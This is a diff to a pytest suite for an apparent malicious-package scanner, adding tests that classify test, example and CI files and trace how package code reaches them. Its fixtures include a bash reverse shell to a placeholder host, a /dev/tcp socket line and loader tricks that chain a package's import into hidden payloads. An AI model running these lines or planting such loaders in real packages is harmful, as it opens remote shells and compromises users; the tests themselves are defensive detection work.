@@ -5,10 +5,10 @@ from __future__ import annotations
 import textwrap
 
 import pytest
-from antivenom.vectors import IMPORT, INSTALL, RUNTIME, VectorClassifier
+from antivenom.vectors import IMPORT, INSTALL, RUNTIME, VectorClassifier, is_auxiliary_path
 
 
-def classifier(files: dict[str, str]) -> VectorClassifier:
+def classifier(files: dict[str, str], python_files: list[str] | None = None) -> VectorClassifier:
     sources = {path: textwrap.dedent(text).encode() for path, text in files.items()}
 
     def read(path: str) -> bytes:
@@ -16,7 +16,7 @@ def classifier(files: dict[str, str]) -> VectorClassifier:
             raise FileNotFoundError(path)
         return sources[path]
 
-    return VectorClassifier(read)
+    return VectorClassifier(read, python_files)
 
 
 def line_of(files: dict[str, str], path: str, marker: str) -> int:
@@ -205,3 +205,73 @@ def test_each_file_is_parsed_once():
     for line in (1, 2, 4, 2):
         vc.classify("pkg/a.py", line)
     assert reads.count("pkg/a.py") == 1
+
+
+# -- auxiliary files: tests, examples, docs, CI scripts ---------------------------------------------------
+
+def aux_classifier(files: dict[str, str]) -> VectorClassifier:
+    return classifier(files, python_files=[p for p in files if p.endswith(".py")])
+
+
+@pytest.mark.parametrize("path,expected", [
+    ("tests/test_x.py", True),
+    ("pkg/tests/helpers.py", True),
+    ("test_cli.py", True),
+    ("pkg/cli_test.py", True),
+    ("conftest.py", True),
+    ("examples/demo/run.py", True),
+    ("docs/conf.py", True),
+    (".github/scripts/release.py", True),
+    (".evergreen/scripts/setup_tests.py", True),
+    ("setup.py", False),
+    ("tests/setup.py", False),  # a setup.py is judged as one wherever it is
+    ("pkg/__init__.py", False),
+    ("pkg/testing_utils.py", False),
+    ("pkg/contest.py", False),
+    ("hook.pth", False),
+])
+def test_auxiliary_paths(path, expected):
+    assert is_auxiliary_path(path) is expected
+
+
+def test_unnamed_test_file_is_auxiliary_and_runtime():
+    files = {"pkg/__init__.py": "from .core import run\n",
+             "pkg/core.py": "def run():\n    pass\n",
+             "tests/test_shell.py": "import os\nos.system('bash -i >& /dev/tcp/example.invalid/1 0>&1')\n"}
+    vc = aux_classifier(files)
+    assert vc.is_auxiliary("tests/test_shell.py")
+    got, reason = vc.classify("tests/test_shell.py", 2)
+    assert got == RUNTIME and "test/example/CI file" in reason
+    assert not vc.is_auxiliary("pkg/core.py")
+
+
+@pytest.mark.parametrize("loader", [
+    "from tests import payload\n",
+    "import importlib\nimportlib.import_module('tests.payload')\n",
+    "__import__('tests.payload')\n",
+    "exec(open(__file__.replace('__init__', '../tests/payload')).read())\n",
+    "import runpy\nrunpy.run_path('tests/payload.py')\n",
+])
+def test_auxiliary_file_named_by_package_code_is_ordinary_code(loader):
+    files = {"pkg/__init__.py": loader, "tests/payload.py": "import os\nos.system('id')\n"}
+    vc = aux_classifier(files)
+    assert not vc.is_auxiliary("tests/payload.py")
+    assert vc.classify("tests/payload.py", 2)[0] == IMPORT
+
+
+def test_naming_passes_through_reached_auxiliary_files():
+    files = {"setup.py": "import tests\n",
+             "tests/__init__.py": "from .stage2 import go\ngo()\n",
+             "tests/stage2.py": "def go():\n    import os\n    os.system('id')\n",
+             "tests/test_unrelated.py": "import os\nos.system('id')\n"}
+    vc = aux_classifier(files)
+    assert not vc.is_auxiliary("tests/__init__.py")
+    assert not vc.is_auxiliary("tests/stage2.py")
+    assert vc.is_auxiliary("tests/test_unrelated.py")
+
+
+def test_a_method_sharing_the_file_name_does_not_reach_it():
+    files = {"pkg/sandbox.py": "class Sandbox:\n    def run_from_file(self, path):\n"
+                               "        raise TypeError('bad argument for run_from_file (got path)')\n",
+             "examples/run_from_file.py": "SCRIPT = 'exec 3<>/dev/tcp/api/8080'\n"}
+    assert aux_classifier(files).is_auxiliary("examples/run_from_file.py")
